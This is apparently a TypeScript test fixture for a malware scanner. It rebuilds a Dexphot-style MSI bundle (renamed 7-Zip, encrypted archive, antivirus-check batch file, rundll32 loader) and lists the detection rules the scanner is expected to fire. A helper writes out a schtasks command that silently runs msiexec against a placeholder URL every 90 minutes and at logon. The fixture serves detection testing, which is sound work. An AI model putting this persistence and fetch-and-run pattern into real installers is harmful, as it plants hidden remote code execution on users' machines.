/**
 * The bundle as the write-up tells it: a genuine 7-Zip under another name, an encrypted ZIP, a batch file that looks for
 * antivirus products, the password in a property, the loader started through rundll32, a task that fetches the next package.
 */

import { guidFor } from '../builder/guid.js';
import {
  archiveFile,
  batchFile,
  buildBundle,
  checkAction,
  command,
  sevenZipAction,
  startAction,
  toolFile,
} from '../ingredient/bundle.js';
import { loaderArchive } from '../ingredient/loader-archive.js';
import { sevenZipTool } from '../ingredient/unzip-tool.js';
import { ruleId } from '../rule-id.js';
import { fullBundle, type SampleCase } from '../sample-case.js';

const PASSWORD = 'kZ81mfQx';
const LOADER_NAME = 'urlmon.7z';

export const sample: SampleCase = {
  name: 'dexphot-cabinet',
  title: 'all four components in the cabinet, with scheduled tasks',
  kind: 'dexphot',
  fileName: 'setup.msi',
  build: () =>
    buildBundle({
      name: 'Media Codec Update',
      files: [toolFile(sevenZipTool()), archiveFile(loaderArchive(LOADER_NAME, PASSWORD)), batchFile()],
      properties: { KQPW: PASSWORD, ARPSYSTEMCOMPONENT: '1' },
      customActions: [
        checkAction(),
        sevenZipAction('[KQPW]'),
        startAction(LOADER_NAME),
        command('Task1', scheduleCommand('first', 'minute /mo 90')),
        command('Task2', scheduleCommand('second', 'onlogon')),
      ],
    }),
  expected: fullBundle({
    hasBatch: true,
    findings: [
      ruleId.falseExtensionDllStart,
      ruleId.processHollowingImports,
      ruleId.encryptedDataBesideDll,
      ruleId.renamedUnzipUtility,
      ruleId.unpackToOddFolder,
      ruleId.scheduledMsiexecUrl,
      ruleId.scheduledTask90Or110,
      ruleId.randomTaskName,
    ],
    payloads: [
      'setup.msi › data.cab › z.exe',
      'setup.msi › data.cab › chk.bat',
      'setup.msi › data.cab › kq.zip',
      'setup.msi › data.cab › kq.zip › urlmon.7z',
      'setup.msi › data.cab › kq.zip › bin.dat',
      'setup.msi › data.cab › kq.zip › colorpicker.dll',
    ],
  }),
};

function scheduleCommand(task: string, schedule: string): string {
  const url = 'http://updates.example.net/x7fjq2';
  return `schtasks /create /tn "${guidFor(task)}" /tr "msiexec.exe /q /i ${url}" /sc ${schedule} /f`;
}
